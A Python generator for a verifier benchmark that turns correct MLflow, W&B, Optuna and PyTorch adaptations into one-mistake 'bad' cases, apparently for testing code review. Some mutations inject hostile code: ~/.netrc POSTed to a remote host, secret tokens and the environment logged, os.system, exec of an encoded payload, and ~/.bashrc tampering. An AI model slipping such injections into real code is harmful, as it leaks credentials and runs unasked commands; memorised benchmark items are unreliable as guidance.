"""Writes the foreign set's bad/*.py (each a good foreign adaptation with one mistake) and cases.json.

Run it after editing a good candidate or a mutation below:
`python bench/verifier/foreign/make_cases.py`. The bad files are committed too, so
`mlops-adapt verify TASK ORIGINAL bad/X.py --run` works on them.
"""

from __future__ import annotations

import json
from pathlib import Path

HERE = Path(__file__).resolve().parent

# good id -> (task, original under original/, the published idiom it follows)
GOOD = {
    # track-mlflow
    "mlflow_elasticnet_diabetes": (
        "track-mlflow",
        "elasticnet_diabetes.py",
        (
            "training moved into `with mlflow.start_run():`, one log_param/log_metric per value, "
            "the model logged with mlflow.sklearn.log_model (MLflow's ElasticNet wine tutorial)"
        ),
    ),
    "mlflow_wine_svc_asdict": (
        "track-mlflow",
        "wine_svc_dataclass.py",
        "`from dataclasses import asdict, dataclass` and mlflow.log_params(asdict(cfg))",
    ),
    "mlflow_wine_svc_experiment_field": (
        "track-mlflow",
        "wine_svc_dataclass.py",
        (
            "a new `experiment` field on the config dataclass, mlflow.set_experiment, a run name, "
            "params filtered from asdict(cfg)"
        ),
    ),
    "mlflow_breast_cancer_argparse": (
        "track-mlflow",
        "breast_cancer_logreg_argparse.py",
        "mlflow.log_params(vars(args)) and mlflow.log_metrics({...}) in main()",
    ),
    "mlflow_iris_rf_autolog": (
        "track-mlflow",
        "iris_rf_constants.py",
        (
            "mlflow.sklearn.autolog() alone, enabled before sklearn.metrics is imported (params of "
            "the estimator, accuracy_score as a "
            "post-training metric); TEST_SIZE and SEED are not logged"
        ),
    ),
    "mlflow_digits_gb_params": (
        "track-mlflow",
        "digits_gb_params.py",
        (
            "mlflow.log_params(params) from the script's own params dict, a set_tag, print after "
            "the run"
        ),
    ),
    "mlflow_torch_mlp_epochs": (
        "track-mlflow",
        "torch_mlp_epochs.py",
        (
            "a torch loop with mlflow.log_metric(..., step=epoch) and mlflow.log_metrics for the test "
            "pass"
        ),
    ),
    "mlflow_wine_knn_cv": (
        "track-mlflow",
        "wine_knn_cv.py",
        "cross_val_score inside a named run; fold scores with step=fold, mean and std",
    ),
    "mlflow_diabetes_gd_numpy": (
        "track-mlflow",
        "diabetes_gd_numpy.py",
        "explicit mlflow.start_run() with mlflow.end_run() in a finally:, per-epoch metric",
    ),
    "mlflow_breast_cancer_pipeline": (
        "track-mlflow",
        "breast_cancer_pipeline.py",
        (
            "set_experiment, `with mlflow.start_run() as run:`, pipeline-style param names "
            "(svc__C), the run id printed"
        ),
    ),
    "mlflow_iris_metrics_dict": (
        "track-mlflow",
        "iris_metrics_dict.py",
        (
            "mlflow.log_metrics(metrics) with the script's own metrics dict, in a run opened after "
            "training"
        ),
    ),
    "mlflow_digits_sgd_epochs": (
        "track-mlflow",
        "digits_sgd_partial_fit.py",
        "partial_fit epochs logged with step=epoch; the printed value bound to a variable first",
    ),
    "mlflow_wine_adaboost_get_params": (
        "track-mlflow",
        "wine_adaboost_module_model.py",
        "a module-level model, mlflow.log_params(model.get_params()) in main()",
    ),
    "mlflow_torch_module_trainer": (
        "track-mlflow",
        "torch_module_trainer.py",
        "per-epoch loss with step=epoch in main(), the final accuracy bound to a variable",
    ),
    # track-wandb
    "wandb_wine_svc_dataclass": (
        "track-wandb",
        "wine_svc_dataclass.py",
        (
            "`with wandb.init(project=..., job_type=..., config=asdict(cfg)) as wb_run:` and "
            "wb_run.log"
        ),
    ),
    "wandb_breast_cancer_config_update": (
        "track-wandb",
        "breast_cancer_logreg_argparse.py",
        (
            "wandb.init() then wandb.config.update(args) with the argparse Namespace, keys like "
            "'Test Accuracy' (W&B's pytorch-cnn-mnist example)"
        ),
    ),
    "wandb_iris_rf_run_log": (
        "track-wandb",
        "iris_rf_constants.py",
        "run = wandb.init(project=..., config={...}); run.log; run.finish(); no seed/test_size",
    ),
    "wandb_digits_gb_params": (
        "track-wandb",
        "digits_gb_params.py",
        "wandb.init(config=params) with the script's params dict, wandb.log, wandb.finish",
    ),
    "wandb_torch_mlp_epochs": (
        "track-wandb",
        "torch_mlp_epochs.py",
        (
            "`with wandb.init(...) as run:` around a torch loop, run.log({'epoch': ..., "
            "'train/loss': ...}) (W&B's launch quickstart)"
        ),
    ),
    "wandb_torch_regression_step": (
        "track-wandb",
        "torch_regression_main.py",
        "wandb.log({...}, step=epoch) inside a helper, wandb.summary['test_mse']",
    ),
    "wandb_wine_knn_cv": (
        "track-wandb",
        "wine_knn_cv.py",
        "fold scores logged per fold, the CV mean and std in run.summary",
    ),
    "wandb_diabetes_gd_config_attrs": (
        "track-wandb",
        "diabetes_gd_numpy.py",
        (
            "wandb.config.<name> = value attribute assignments (W&B's numpy-housing example), "
            "no explicit finish"
        ),
    ),
    "wandb_iris_metrics_summary": (
        "track-wandb",
        "iris_metrics_dict.py",
        "run.summary.update(metrics) instead of log",
    ),
    "wandb_iris_knn_run_config": (
        "track-wandb",
        "iris_knn_flat.py",
        "config = run.config read back and used to build the model, so a sweep can override it",
    ),
    # hpo-optuna
    "hpo_wine_svc_replace": (
        "hpo-optuna",
        "wine_svc_dataclass.py",
        (
            "`from dataclasses import dataclass, replace`; a tune() whose objective cross-validates "
            "on the training split; run(replace(cfg, **study.best_params))"
        ),
    ),
    "hpo_iris_rf_cross_val": (
        "hpo-optuna",
        "iris_rf_constants.py",
        (
            "objective = cross_val_score(...).mean() on the training split (Optuna's "
            "sklearn_simple), refit with **study.best_params"
        ),
    ),
    "hpo_digits_gb_params_dict": (
        "hpo-optuna",
        "digits_gb_params.py",
        (
            "a params dict of trial.suggest_* (Optuna's mlflow_simple), validation split, the "
            "'Best trial: Value/Params' report, params.update(trial.params)"
        ),
    ),
    "hpo_torch_regression_valid": (
        "hpo-optuna",
        "torch_regression_main.py",
        (
            "an objective nested in main() training on a fit/validation split, "
            "direction='minimize' for the MSE"
        ),
    ),
    "hpo_wine_knn_cv_objective": (
        "hpo-optuna",
        "wine_knn_cv.py",
        "a CV-only script: the objective is the CV mean; set_verbosity(WARNING), study_name",
    ),
    "hpo_breast_cancer_pipeline_tpe": (
        "hpo-optuna",
        "breast_cancer_pipeline.py",
        "TPESampler(seed=0), ROC AUC on a validation split, CONFIG.update(study.best_params)",
    ),
    "hpo_digits_sgd_pruning": (
        "hpo-optuna",
        "digits_sgd_partial_fit.py",
        (
            "trial.report/should_prune per partial_fit epoch with a MedianPruner (Optuna's "
            "simple_pruning)"
        ),
    ),
    "hpo_diabetes_rf_neg_mse": (
        "hpo-optuna",
        "diabetes_rf_regressor.py",
        "scoring='neg_mean_squared_error' maximised (an error metric, negated by sklearn)",
    ),
    "hpo_iris_knn_valid_split": (
        "hpo-optuna",
        "iris_knn_flat.py",
        "suggest_int/suggest_categorical on a validation split carved from the training split",
    ),
    "hpo_breast_cancer_argparse_enqueue": (
        "hpo-optuna",
        "breast_cancer_logreg_argparse.py",
        (
            "a new --n-trials option, study.enqueue_trial with the command-line defaults, the best "
            "values written back into args"
        ),
    ),
    # register-mlflow
    "register_elasticnet_diabetes": (
        "register-mlflow",
        "elasticnet_diabetes.py",
        (
            "mlflow.sklearn.log_model(lr, name='model', registered_model_name=...) in the tutorial's "
            "run"
        ),
    ),
    "register_breast_cancer_signature": (
        "register-mlflow",
        "breast_cancer_logreg_argparse.py",
        (
            "infer_signature + input_example (MLflow's sklearn_logistic_regression example), the "
            "registered name from a new --registered-model-name option"
        ),
    ),
    "register_iris_rf": (
        "register-mlflow",
        "iris_rf_constants.py",
        "training inside the run, log_model(clf, name=..., registered_model_name=...)",
    ),
    "register_torch_regression_main": (
        "register-mlflow",
        "torch_regression_main.py",
        "mlflow.pytorch.log_model(model, name=..., registered_model_name=...) in main()",
    ),
    "register_breast_cancer_pipeline_runs_uri": (
        "register-mlflow",
        "breast_cancer_pipeline.py",
        (
            "log_model in a run, then mlflow.register_model(f'runs:/{run_id}/svm-pipeline', name) "
            "after it"
        ),
    ),
    "register_wine_adaboost_model_info": (
        "register-mlflow",
        "wine_adaboost_module_model.py",
        (
            "model_info = log_model(...); mlflow.register_model(model_info.model_uri, name) "
            "(MLflow 3 demo ml.py)"
        ),
    ),
    "register_diabetes_rf_docs_style": (
        "register-mlflow",
        "diabetes_rf_regressor.py",
        (
            "MLflow's 'register your first model' page: params dict, signature, log_metrics, "
            "sk_model=..., registered_model_name=..."
        ),
    ),
    "register_torch_mlp_after_eval": (
        "register-mlflow",
        "torch_mlp_epochs.py",
        "a run opened after evaluation, pytorch_model=..., input_example, registered name",
    ),
    # optimize-prune
    "prune_torch_mlp_l1_loop": (
        "optimize-prune",
        "torch_mlp_epochs.py",
        (
            "l1_unstructured + prune.remove over model.modules(), sparsity printed, the test loop "
            "repeated"
        ),
    ),
    "prune_digits_cnn_global": (
        "optimize-prune",
        "torch_digits_cnn.py",
        (
            "prune.global_unstructured over conv and linear weights (PyTorch pruning tutorial), "
            "global sparsity, prune.remove"
        ),
    ),
    "prune_module_trainer_named_modules": (
        "optimize-prune",
        "torch_module_trainer.py",
        (
            "a prune_model() helper over named_modules() for Conv2d/Linear (MLflow's "
            "IterativePruning example)"
        ),
    ),
    # optimize-quantize
    "quantize_torch_mlp_dynamic": (
        "optimize-quantize",
        "torch_mlp_epochs.py",
        (
            "torch.ao.quantization.quantize_dynamic(model, {nn.Linear}, dtype=torch.qint8), "
            "evaluated again"
        ),
    ),
    "quantize_digits_cnn_legacy_namespace": (
        "optimize-quantize",
        "torch_digits_cnn.py",
        (
            "the older torch.quantization.quantize_dynamic alias, model size before/after "
            "(PyTorch dynamic quantization tutorial)"
        ),
    ),
    "quantize_module_trainer_in_main": (
        "optimize-quantize",
        "torch_module_trainer.py",
        "`from torch.ao.quantization import quantize_dynamic` with qconfig_spec= in main()",
    ),
    # translate-gitpython-dvc
    "translate_csv_versions_dvc_api": (
        "translate-gitpython-dvc",
        "git_csv_versions.py",
        (
            "DvcRepo opened or initialised (NotDvcRepoError), relative dvc add, .dvc + .gitignore "
            "committed, tags kept, dvc.api.read(rev='v1')"
        ),
    ),
    "translate_baseline_commit_rev": (
        "translate-gitpython-dvc",
        "git_baseline_tag.py",
        "the tag that only named the old version is dropped: dvc.api.read(rev=commit.hexsha)",
    ),
    "translate_dataset_folder_open": (
        "translate-gitpython-dvc",
        "git_dataset_folder.py",
        (
            "a whole folder tracked by one dataset.dvc, a file inside it read back with "
            "dvc.api.open(rev=...)"
        ),
    ),
}

# The log_model call of good/register_iris_rf.py, moved by bad_register_before_fit.
IRIS_RF_LOG_MODEL = (
    "    mlflow.sklearn.log_model(\n"
    "        clf,\n"
    '        name="iris_rf",\n'
    "        serialization_format=mlflow.sklearn.SERIALIZATION_FORMAT_CLOUDPICKLE,\n"
    '        registered_model_name="iris-random-forest",\n'
    "    )\n"
)

# bad id -> (good it derives from, [(old, new), ...], reason keyword, the mistake)
BAD = {
    "bad_mlflow_log_param_os_system": (
        "mlflow_elasticnet_diabetes",
        [
            (
                '        mlflow.log_param("l1_ratio", l1_ratio)\n',
                (
                    '        mlflow.log_param("l1_ratio", l1_ratio)\n'
                    '        mlflow.log_param("x", __import__("os").system("id"))\n'
                ),
            )
        ],
        "os.system",
        "hostile: a shell command run through __import__('os').system inside a log_param",
    ),
    "bad_mlflow_netrc_post": (
        "mlflow_breast_cancer_argparse",
        [
            ("import argparse\n", "import argparse\nimport os\nimport urllib.request\n"),
            (
                "        mlflow.log_params(vars(args))\n",
                (
                    "        mlflow.log_params(vars(args))\n"
                    "        mlflow.log_param(\n"
                    '            "upload_status",\n'
                    "            urllib.request.urlopen(\n"
                    '                "https://telemetry.example.com/collect",\n'
                    '                data=open(os.path.expanduser("~/.netrc"), "rb").read(),\n'
                    "            ).status,\n"
                    "        )\n"
                ),
            ),
        ],
        "network",
        "hostile: ~/.netrc POSTed to a remote host with urllib inside a log_param",
    ),
    "bad_mlflow_set_tag_environ": (
        "mlflow_digits_gb_params",
        [
            ("import mlflow\n", "import os\n\nimport mlflow\n"),
            (
                '    mlflow.set_tag("model_family", "gradient-boosting")\n',
                (
                    '    mlflow.set_tag("model_family", "gradient-boosting")\n'
                    '    mlflow.set_tag("env", os.environ)\n'
                ),
            ),
        ],
        "environment",
        "hostile: the whole process environment (tokens included) stored as a run tag",
    ),
    "bad_wandb_config_subprocess": (
        "wandb_iris_rf_run_log",
        [
            ("import wandb\n", "import subprocess\n\nimport wandb\n"),
            (
                '    config={"n_estimators": N_ESTIMATORS, "max_depth": MAX_DEPTH},\n',
                (
                    "    config={\n"
                    '        "n_estimators": N_ESTIMATORS,\n'
                    '        "max_depth": MAX_DEPTH,\n'
                    '        "host": subprocess.check_output(["uname", "-a"], text=True).strip(),\n'
                    "    },\n"
                ),
            ),
        ],
        "subprocess",
        "hostile: an added line runs an external process (subprocess) and ships its output",
    ),
    "bad_mlflow_exec_payload": (
        "mlflow_iris_metrics_dict",
        [
            ("import mlflow\n", "import base64\n\nimport mlflow\n"),
            (
                "    mlflow.log_metrics(metrics)\n",
                (
                    "    mlflow.log_metrics(metrics)\n"
                    '    exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5nZXRwaWQoKQ==").decode())\n'
                ),
            ),
        ],
        "exec",
        "hostile: exec of a base64-encoded payload next to the logging",
    ),
    "bad_hpo_eval_env_expression": (
        "hpo_breast_cancer_argparse_enqueue",
        [
            ("import argparse\n", "import argparse\nimport os\n"),
            (
                '        C = trial.suggest_float("C", 1e-3, 10.0, log=True)\n',
                (
                    "        C = eval(\n"
                    '            os.environ.get("LOGREG_C", \'trial.suggest_float("C", 1e-3, 10.0, '
                    "log=True)')\n"
                    "        )\n"
                ),
            ),
        ],
        "eval",
        "hostile: eval of an expression taken from the environment inside the objective",
    ),
    "bad_wandb_writes_bashrc": (
        "wandb_digits_gb_params",
        [
            ("import wandb\n", "import os\n\nimport wandb\n"),
            (
                "wandb.finish()\n",
                (
                    "wandb.finish()\n"
                    'with open(os.path.expanduser("~/.bashrc"), "a") as rc:\n'
                    '    rc.write("export PATH=$HOME/.cache/.bin:$PATH\\n")\n'
                ),
            ),
        ],
        "file",
        "hostile: appends to a file outside the project (~/.bashrc)",
    ),
    "bad_mlflow_logs_secret_env": (
        "mlflow_wine_svc_asdict",
        [
            (
                "from dataclasses import asdict, dataclass\n",
                "import os\nfrom dataclasses import asdict, dataclass\n",
            ),
            (
                "        mlflow.log_params(asdict(cfg))\n",
                (
                    "        mlflow.log_params(asdict(cfg))\n"
                    '        mlflow.log_param("aws_key", os.environ.get("AWS_SECRET_ACCESS_KEY", "none"))\n'
                ),
            ),
        ],
        "environment",
        "hostile: a credential read from an environment variable and logged as a param",
    ),
    "bad_wandb_config_env_token": (
        "wandb_breast_cancer_config_update",
        [
            ("import argparse\n", "import argparse\nimport os\n"),
            (
                "    wandb.config.update(args)\n",
                (
                    "    wandb.config.update(args)\n"
                    '    wandb.config.update({"hf_token": os.getenv("HF_TOKEN", "")})\n'
                ),
            ),
        ],
        "environment",
        "hostile: an access token read from the environment and put into the run config",
    ),
    "bad_mlflow_test_loss_after_reset": (
        "mlflow_torch_mlp_epochs",
        [
            (
                "    test_loss = 0\n    correct = 0\n",
                (
                    "    test_loss = 0\n    correct = 0\n"
                    '    mlflow.log_metrics({"test_loss": test_loss, "test_acc": correct / len(test_ds)})\n'
                ),
            ),
            ('    mlflow.log_metrics({"test_loss": test_loss, "test_acc": test_acc})\n', ""),
        ],
        "value",
        (
            "wrong value: test_loss/test_acc logged right after they are reset to 0, before the test "
            "pass"
        ),
    ),
    "bad_wandb_hardcoded_accuracy": (
        "wandb_iris_knn_run_config",
        [('    run.log({"accuracy": accuracy})\n', '    run.log({"accuracy": 0.97})\n')],
        "value",
        "wrong value: a hard-coded number logged instead of the computed accuracy",
    ),
    "bad_mlflow_param_value_differs": (
        "mlflow_torch_module_trainer",
        [('"lr": 0.02, "momentum": 0.9', '"lr": 0.01, "momentum": 0.9')],
        "value",
        "wrong value: the logged learning rate (0.01) is not the one the optimizer uses (0.02)",
    ),
    "bad_mlflow_metric_on_train_split": (
        "mlflow_wine_adaboost_get_params",
        [
            (
                '        mlflow.log_metric("balanced_accuracy", score)\n',
                '        mlflow.log_metric("balanced_accuracy", evaluate(X_train, y_train))\n',
            )
        ],
        "X_train",
        (
            "wrong value: the metric logged under the test metric's name is computed on the training "
            "split"
        ),
    ),
    "bad_hpo_objective_on_test_split": (
        "hpo_iris_knn_valid_split",
        [
            (
                "    clf.fit(X_tr, y_tr)\n    return accuracy_score(y_valid, clf.predict(X_valid))\n",
                "    clf.fit(X_train, y_train)\n    return accuracy_score(y_test, clf.predict(X_test))\n",
            )
        ],
        "test split",
        "the objective is scored on the test split (a validation split exists)",
    ),
    "bad_hpo_cv_replaced_by_test_score": (
        "hpo_iris_rf_cross_val",
        [
            (
                "    return cross_val_score(clf, X_train, y_train, cv=3).mean()\n",
                "    clf.fit(X_train, y_train)\n    return clf.score(X_test, y_test)\n",
            )
        ],
        "test split",
        (
            "the objective is scored on the test split instead of cross-validation on the training "
            "split"
        ),
    ),
    "bad_hpo_minimize_accuracy": (
        "hpo_digits_gb_params_dict",
        [
            (
                'optuna.create_study(direction="maximize")',
                'optuna.create_study(direction="minimize")',
            )
        ],
        "maximize",
        "wrong direction: the validation accuracy is minimised",
    ),
    "bad_hpo_minimize_neg_mse": (
        "hpo_diabetes_rf_neg_mse",
        [
            (
                'optuna.create_study(direction="maximize")',
                'optuna.create_study(direction="minimize")',
            )
        ],
        "maximize",
        (
            "wrong direction: the negated MSE (neg_mean_squared_error) is minimised, i.e. the error "
            "maximised"
        ),
    ),
    "bad_hpo_objective_ignores_suggestions": (
        "hpo_wine_svc_replace",
        [
            (
                "SVC(C=cfg.C, gamma=cfg.gamma, kernel=cfg.kernel))\n        return",
                "SVC(C=base.C, gamma=base.gamma, kernel=base.kernel))\n        return",
            )
        ],
        "trial",
        (
            "the objective builds its model from the base config, so the suggested values are never "
            "used"
        ),
    ),
    "bad_hpo_best_not_reported": (
        "hpo_breast_cancer_pipeline_tpe",
        [
            (
                'print(f"best validation roc auc {study.best_value:.4f} with {study.best_params}")\n',
                "",
            )
        ],
        "best",
        "the best params are used but never reported",
    ),
    "bad_mlflow_print_removed": (
        "mlflow_breast_cancer_pipeline",
        [('    print(f"roc auc:  {auc:.4f}")\n', "")],
        "output",
        "dropped output: the ROC AUC line is no longer printed",
    ),
    "bad_wandb_epoch_print_removed": (
        "wandb_torch_mlp_epochs",
        [('        print(f"Epoch {epoch}: train loss {train_loss:.4f}")\n', "")],
        "output",
        "dropped output: the per-epoch print replaced by run.log only",
    ),
    "bad_wandb_training_call_removed": (
        "wandb_torch_regression_step",
        [("    train(model, X_train, y_train, lr, epochs)\n", "")],
        "training",
        "training removed: the model is evaluated (and logged) untrained",
    ),
    "bad_mlflow_partial_fit_moved_out_of_loop": (
        "mlflow_digits_sgd_epochs",
        [
            (
                (
                    "    for epoch in range(EPOCHS):\n"
                    "        clf.partial_fit(X_train, y_train, classes=classes)\n"
                ),
                (
                    "    clf.partial_fit(X_train, y_train, classes=classes)\n"
                    "    for epoch in range(EPOCHS):\n"
                ),
            )
        ],
        "training",
        (
            "training moved out of the epoch loop: one epoch is trained, the same value is logged 8 "
            "times"
        ),
    ),
    "bad_register_dataloader_as_model": (
        "register_torch_mlp_after_eval",
        [("        pytorch_model=model,\n", "        pytorch_model=train_loader,\n")],
        "train_loader",
        "the DataLoader is logged and registered instead of the trained model",
    ),
    "bad_register_dataset_as_model": (
        "register_diabetes_rf_docs_style",
        [("        sk_model=rf,\n", "        sk_model=X_train,\n")],
        "X_train",
        "the training data array is logged and registered instead of the trained forest",
    ),
    "bad_register_before_fit": (
        "register_iris_rf",
        [
            (
                '    mlflow.log_metric("accuracy", acc)\n' + IRIS_RF_LOG_MODEL,
                '    mlflow.log_metric("accuracy", acc)\n',
            ),
            (
                "    clf.fit(X_train, y_train)\n",
                IRIS_RF_LOG_MODEL + "    clf.fit(X_train, y_train)\n",
            ),
        ],
        "before",
        "the model is logged and registered before it is trained",
    ),
    "bad_prune_before_training": (
        "prune_module_trainer_named_modules",
        [
            (
                "    for epoch in range(3):\n",
                "    prune_model(model, amount=0.5)\n    for epoch in range(3):\n",
            ),
            ("    prune_model(model, amount=0.5)\n    print(", "    print("),
        ],
        "before",
        "the untrained model is pruned (and the masks made permanent) before training",
    ),
    "bad_prune_class_swap": (
        "prune_torch_mlp_l1_loop",
        [
            (
                "# prune 40% of the smallest",
                "import copy\n\ndense = copy.deepcopy(model)\n# prune 40% of the smallest",
            ),
            (
                "pruned_loss = 0.0\n",
                (
                    'model.__class__ = type("PrunedMLP", (nn.Sequential,), '
                    '{"forward": lambda self, x: dense(x)})\npruned_loss = 0.0\n'
                ),
            ),
        ],
        "capability",
        (
            "the pruned model's class is swapped for one whose forward runs a dense copy: the "
            "'pruned' figures are the dense model's"
        ),
    ),
    "bad_prune_forward_patched": (
        "prune_torch_mlp_l1_loop",
        [
            (
                "# prune 40% of the smallest",
                "import copy\n\ndense = copy.deepcopy(model)\n# prune 40% of the smallest",
            ),
            ("pruned_loss = 0.0\n", "model.forward = dense.forward\npruned_loss = 0.0\n"),
        ],
        "replaces",
        "the pruned model's forward is replaced by a dense copy: the 'pruned' figures are the dense model's",
    ),
    "bad_quantize_not_evaluated": (
        "quantize_digits_cnn_legacy_namespace",
        [
            (
                'print(f"quantized test accuracy: {accuracy(quantized_net):.4f}")',
                'print(f"quantized test accuracy: {accuracy(net):.4f}")',
            )
        ],
        "evaluat",
        (
            "the 'quantized' accuracy is measured on the float model; the quantized one is never "
            "evaluated"
        ),
    ),
    "bad_translate_still_git_adds_data": (
        "translate_csv_versions_dvc_api",
        [
            (
                'repo.index.add(["measurements.csv.dvc", ".gitignore"])',
                'repo.index.add(["measurements.csv", "measurements.csv.dvc", ".gitignore"])',
            )
        ],
        "measurements.csv",
        "the data file is still committed to git next to its .dvc file",
    ),
    "bad_translate_read_without_rev": (
        "translate_baseline_commit_rev",
        [
            (
                'dvc.api.read("data/train.csv", repo=".", rev=baseline_commit.hexsha)',
                'dvc.api.read("data/train.csv", repo=".")',
            )
        ],
        "rev",
        "the baseline is read without rev=, so it reads the current data",
    ),
}


def mutate(text: str, edits: list[tuple[str, str]], bad_id: str) -> str:
    """Apply each (old, new) replacement; each `old` must occur exactly once."""
    for old, new in edits:
        count = text.count(old)
        if count != 1:
            raise SystemExit(f"{bad_id}: {old!r} occurs {count} times in its good candidate")
        text = text.replace(old, new)
    return text


def main() -> None:
    cases = []
    for good_id, (task, original, shows) in GOOD.items():
        for path in (HERE / "original" / original, HERE / "good" / f"{good_id}.py"):
            if not path.is_file():
                raise SystemExit(f"{good_id}: {path} does not exist")
        cases.append(
            {
                "id": good_id,
                "task": task,
                "original": f"original/{original}",
                "candidate": f"good/{good_id}.py",
                "expect": "accept",
                "mistake": f"correct foreign-style adaptation: {shows}",
            }
        )
    (HERE / "bad").mkdir(exist_ok=True)
    for bad_id, (good_id, edits, reason, mistake) in BAD.items():
        task, original, _ = GOOD[good_id]
        good_text = (HERE / "good" / f"{good_id}.py").read_text(encoding="utf-8")
        (HERE / "bad" / f"{bad_id}.py").write_text(
            mutate(good_text, edits, bad_id), encoding="utf-8"
        )
        cases.append(
            {
                "id": bad_id,
                "task": task,
                "original": f"original/{original}",
                "candidate": f"bad/{bad_id}.py",
                "expect": "reject",
                "reason": reason,
                "mistake": f"{mistake} (from {good_id})",
            }
        )
    about = (
        "Foreign verifier cases: 'accept' = a correct adaptation in the style other projects "
        "publish (MLflow, W&B, Optuna, PyTorch and DVC examples), 'reject' = one of those with "
        "one hostile or wrong edit; `reason` is a keyword the rejection must contain. "
        "Generated by make_cases.py; see README.md."
    )
    out = {"about": about, "cases": cases}
    (HERE / "cases.json").write_text(json.dumps(out, indent=1) + "\n", encoding="utf-8")
    good = sum(c["expect"] == "accept" for c in cases)
    print(f"wrote {len(cases)} cases ({good} good, {len(cases) - good} bad)")


if __name__ == "__main__":
    main()
